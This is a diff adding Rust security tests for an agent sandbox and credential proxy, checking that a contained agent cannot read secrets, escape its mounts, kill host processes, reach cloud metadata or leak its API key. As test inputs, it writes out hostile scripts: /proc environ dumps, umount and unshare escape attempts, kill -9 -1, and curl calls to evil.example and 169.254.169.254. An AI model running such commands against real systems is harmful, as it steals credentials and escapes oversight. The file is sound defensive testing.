@@ -1,0 +1,280 @@
+//! Everything that must fail: an agent that looks for secrets, for control, or for a way out.
+
+use std::os::unix::process::CommandExt;
+
+use crate::support::{As, KEY, Scene, find, text};
+
+/// Runs a script as the agent; its output whatever its status.
+fn agent(scene: &Scene, script: &str) -> String {
+    let output = scene.run(["bash", "-c", script]).run();
+    text(&output.stdout) + &text(&output.stderr)
+}
+
+#[test]
+fn no_secret_is_in_environment_processes_or_home() {
+    for whom in [As::User, As::Own] {
+        let scene = Scene::acting(whom);
+        scene.login("openai", KEY);
+        let script = "env; cat /proc/*/environ /proc/*/cmdline /proc/*/maps 2>&1 | tr '\\0' '\\n'; \
+                      grep -ra . \"$HOME\" \"$AUTHSOME_HOME\" \"$XDG_RUNTIME_DIR\" /dev/shm 2>&1; \
+                      cat /proc/keys; keyctl show 2>&1";
+        let found = agent(&scene, script);
+        assert!(found.contains("OPENAI_API_KEY"), "the script saw something");
+        assert!(!found.contains(KEY));
+        assert!(!found.contains("PRIVATE KEY"));
+    }
+}
+
+#[test]
+fn the_vaults_directory_is_covered_and_stays_so() {
+    let scene = Scene::connected();
+    let script = "ls -A \"$AUTHSOME_HOME\"; umount \"$AUTHSOME_HOME\"; \
+                  unshare -Urm sh -c 'umount \"$AUTHSOME_HOME\"; umount -l \"$AUTHSOME_HOME\"; ls -A \"$AUTHSOME_HOME\"'; \
+                  unshare -Urmpf --mount-proc ls -A \"$AUTHSOME_HOME\"; touch \"$AUTHSOME_HOME/x\"";
+    let seen = agent(&scene, script);
+    for name in ["master.key", "daemon.sock", "profiles", "audit.log"] {
+        assert!(scene.home().join(name).exists(), "{name} is there outside");
+        assert!(!seen.contains(name), "{name} is seen inside: {seen}");
+    }
+    assert!(!scene.home().join("x").exists());
+}
+
+#[test]
+fn the_program_gives_an_agent_no_control() {
+    let scene = Scene::connected();
+    let program = scene.authsome::<[&str; 0]>([]).command.get_program().to_owned();
+    let program = program.to_string_lossy();
+    let script = format!(
+        "{program} list; {program} get openai --show-secret; {program} export; {program} daemon stop"
+    );
+    let seen = agent(&scene, &script);
+    assert!(!seen.contains(KEY), "{seen}");
+    assert!(scene.daemon_pid().is_some());
+    assert!(scene.authsome(["get", "openai", "--show-secret"]).success().contains(KEY));
+}
+
+#[test]
+fn processes_outside_are_neither_seen_nor_signalled() {
+    let scene = Scene::connected();
+    let daemon = scene.daemon_pid().unwrap();
+    let script = format!(
+        "kill -9 {daemon}; cat /proc/{daemon}/environ; ls -d /proc/[0-9]* | wc -l; \
+         cat /proc/1/comm; cat /proc/1/environ; gdb -p 1 2>&1; kill -9 1; kill -9 -1"
+    );
+    agent(&scene, &script);
+    assert_eq!(scene.daemon_pid(), Some(daemon));
+}
+
+#[test]
+fn the_agent_has_no_capability_and_cannot_gain_any() {
+    for whom in [As::User, As::Own] {
+        let scene = Scene::acting(whom);
+        let status = scene.run(["cat", "/proc/self/status"]).success();
+        let value = |name: &str| {
+            status.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned()
+        };
+        for set in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
+            assert_eq!(value(set), "0000000000000000", "{set}");
+        }
+        assert_eq!(value("NoNewPrivs:"), "1");
+    }
+}
+
+#[test]
+fn every_address_leads_to_the_interceptor() {
+    let scene = Scene::connected();
+    for flags in [
+        ["--connect-to", "::93.184.216.34:443"],
+        ["--connect-to", "::[2001:4860:4860::8888]:443"],
+        ["--resolve", "api.openai.com:443:127.0.0.1"],
+        ["--resolve", "api.openai.com:443:10.1.2.3"],
+    ] {
+        let before = scene.upstream.seen().len();
+        let url = "https://api.openai.com/v1/models";
+        scene.run(["curl", "-sS", flags[0], flags[1], url]).success();
+        let seen = scene.upstream.seen();
+        assert_eq!(seen.len(), before + 1, "{flags:?}");
+        let bearer = format!("Bearer {KEY}");
+        assert_eq!(seen[before].header("authorization"), Some(bearer.as_str()));
+    }
+}
+
+#[test]
+fn only_the_loopback_interface_is_there() {
+    let scene = Scene::new();
+    let output = scene.run(["cat", "/proc/net/dev"]).success();
+    let names: Vec<_> =
+        output.lines().filter_map(|line| line.split_once(':')).map(|(name, _)| name.trim()).collect();
+    assert_eq!(names, ["lo"]);
+}
+
+#[test]
+fn quic_is_refused_at_once() {
+    let scene = Scene::new();
+    let script = "import socket\n\
+                  for family, address in ((socket.AF_INET, '1.1.1.1'), (socket.AF_INET6, '2606:4700::1111')):\n\
+                  \x20   s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5)\n\
+                  \x20   s.connect((address, 443)); s.send(b'x')\n\
+                  \x20   try: s.recv(1); print('answered')\n\
+                  \x20   except ConnectionRefusedError: print('refused')\n";
+    assert_eq!(scene.run(["/usr/bin/python3", "-c", script]).success(), "refused\nrefused\n");
+}
+
+#[test]
+fn cloud_metadata_is_refused() {
+    let scene = Scene::new();
+    for address in ["169.254.169.254", "[fd00:ec2::254]", "[::ffff:169.254.169.254]"] {
+        let output = scene
+            .authsome(["run", "--", "curl", "-sS", "-m", "10", &format!("http://{address}/latest/meta-data/")])
+            .run();
+        assert!(!output.status.success(), "{address}: {}", text(&output.stdout));
+    }
+    crate::support::eventually("the record", || {
+        scene.authsome(["log", "--json"]).success().contains("address-blocked")
+    });
+}
+
+#[test]
+fn the_hosts_own_loopback_is_out_of_reach() {
+    let scene = Scene::connected();
+    let port = scene.upstream.address.port();
+    let output = agent(&scene, &format!("curl -sS -m 5 -k https://127.0.0.1:{port}/; curl -sS 127.0.0.1:7998"));
+    assert_eq!(output.matches("curl: (7)").count(), 2, "{output}");
+}
+
+#[test]
+fn a_credential_never_goes_to_another_host_by_name_or_header() {
+    let scene = Scene::connected();
+    for (url, header) in [
+        ("https://api.openai.com.evil.example/", "Accept: */*"),
+        ("https://xapi.openai.com/", "Accept: */*"),
+        ("https://evil.example/", "Host: api.openai.com"),
+        ("https://api.openai.com/", "Host: evil.example"),
+    ] {
+        scene.run(["curl", "-sSk", "-H", header, url]).run();
+    }
+    for seen in scene.upstream.seen() {
+        assert!(!format!("{:?}", seen.headers).contains(KEY), "{seen:?}");
+    }
+}
+
+#[test]
+fn port_80_never_carries_a_credential() {
+    let scene = Scene::connected();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let rule = format!("api.openai.com:80:127.0.0.1:{}", listener.local_addr().unwrap().port());
+    let server = std::thread::spawn(move || {
+        use std::io::{Read, Write};
+        let (mut stream, _) = listener.accept().unwrap();
+        let mut head = [0; 4096];
+        let count = stream.read(&mut head).unwrap();
+        stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").unwrap();
+        text(&head[..count])
+    });
+    scene.run_with(["--resolve", &rule], ["curl", "-sS", "http://api.openai.com/"]).success();
+    let head = server.join().unwrap();
+    assert!(head.starts_with("GET / HTTP/1.1"), "{head}");
+    assert!(!head.contains("Bearer"), "{head}");
+}
+
+#[test]
+fn a_host_without_a_provider_shows_its_own_certificate() {
+    let scene = Scene::connected();
+    let script = |host: &str| {
+        format!(
+            "echo | openssl s_client -connect {host}:443 -servername {host} 2>/dev/null | \
+             openssl x509 -noout -issuer"
+        )
+    };
+    assert!(agent(&scene, &script("example.com")).contains("Upstream Test CA"));
+    assert!(!agent(&scene, &script("api.openai.com")).contains("Upstream Test CA"));
+    crate::support::eventually("the record", || {
+        scene.authsome(["log", "--json"]).success().contains("\"splice\"")
+    });
+}
+
+#[test]
+fn what_comes_back_holds_the_placeholder() {
+    let scene = Scene::connected();
+    let script = "curl -sSi --compressed https://api.openai.com/reflect";
+    let seen = agent(&scene, script);
+    assert!(!seen.contains(KEY), "{seen}");
+    let placeholder = agent(&scene, "printf %s \"$OPENAI_API_KEY\"");
+    assert!(seen.contains(&format!("x-reflected: Bearer {placeholder}")), "{seen}");
+    assert!(seen.contains(&format!("plain Bearer {placeholder}")), "{seen}");
+    let encoded = seen.lines().find_map(|line| line.strip_prefix("base64 ")).unwrap();
+    let decoded = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, encoded.trim());
+    assert_eq!(text(&decoded.unwrap()), format!("Bearer {placeholder}"));
+}
+
+#[test]
+fn nested_sandboxes_work_and_lead_nowhere_either() {
+    let scene = Scene::connected();
+    let script = "bwrap --dev-bind / / --unshare-user --unshare-pid --proc /proc \
+                  curl -sS https://api.openai.com/v1/models && \
+                  bwrap --dev-bind / / --unshare-net curl -sS -m 5 https://api.openai.com/v1/models";
+    agent(&scene, script);
+    assert_eq!(scene.upstream.seen().len(), 1);
+}
+
+#[test]
+fn without_a_namespace_there_is_no_agent() {
+    let scene = Scene::new();
+    let witness = scene.user_home().join("ran");
+    // A filter that a container may well have: no new namespaces.
+    let mut program = scene.run(["touch", witness.to_str().unwrap()]);
+    let limited = format!(
+        "echo 0 > /proc/sys/user/max_user_namespaces 2>/dev/null; exec \"$0\" \"$@\""
+    );
+    let inner = std::mem::replace(&mut program.command, std::process::Command::new("unshare"));
+    // Inside a user namespace of its own, where the limit of namespaces below can be set to none.
+    program.command.args(["-Ur", "sh", "-c", &limited]).arg(inner.get_program()).args(inner.get_args());
+    program.command.env_clear();
+    for (name, value) in inner.get_envs() {
+        if let Some(value) = value {
+            program.command.env(name, value);
+        }
+    }
+    if crate::support::is_root() {
+        let owner = std::fs::metadata(scene.user_home()).unwrap();
+        program.command.uid(std::os::unix::fs::MetadataExt::uid(&owner));
+        program.command.gid(std::os::unix::fs::MetadataExt::gid(&owner));
+    }
+    let output = program.run();
+    assert_eq!(output.status.code(), Some(125), "{}", text(&output.stderr));
+    assert!(text(&output.stderr).contains("hint: "), "{}", text(&output.stderr));
+    assert!(!witness.exists());
+}
+
+#[test]
+fn hidden_paths_are_empty_and_exposed_ones_are_not() {
+    let scene = Scene::new();
+    let secrets = scene.user_home().join(".aws");
+    std::fs::create_dir(&secrets).unwrap();
+    crate::support::write(&secrets.join("credentials"), b"aws_secret");
+    let list = ["sh", "-c", "ls -A ~/.aws"];
+    assert_eq!(scene.run(list).success(), "credentials\n");
+    assert_eq!(scene.run_with(["--hide", "~/.aws"], list).success(), "");
+    let refused = scene.run_with(["--expose", scene.home().to_str().unwrap()], list).run();
+    assert_eq!(refused.status.code(), Some(125));
+}
+
+#[test]
+fn the_name_a_credential_follows_is_verified_upstream() {
+    // An upstream with a certificate nobody trusts: no request, and a problem that says why.
+    let scene = Scene::connected();
+    let output = scene
+        .authsome(["run", "--resolve", &scene.upstream.resolve_flag(), "--", "curl", "-sS"])
+        .run();
+    assert!(!output.status.success());
+    let output = scene
+        .authsome([
+            "run", "--resolve", &scene.upstream.resolve_flag(), "--", "curl", "-sS",
+            "https://api.openai.com/v1/models",
+        ])
+        .success();
+    let problem: serde_json::Value = serde_json::from_str(&output).unwrap();
+    assert_eq!(find(&problem, "code").and_then(|code| code.as_str()), Some("upstream-tls"));
+    assert_eq!(find(&problem, "status").and_then(|status| status.as_u64()), Some(502));
+    assert!(scene.upstream.seen().is_empty());
+}
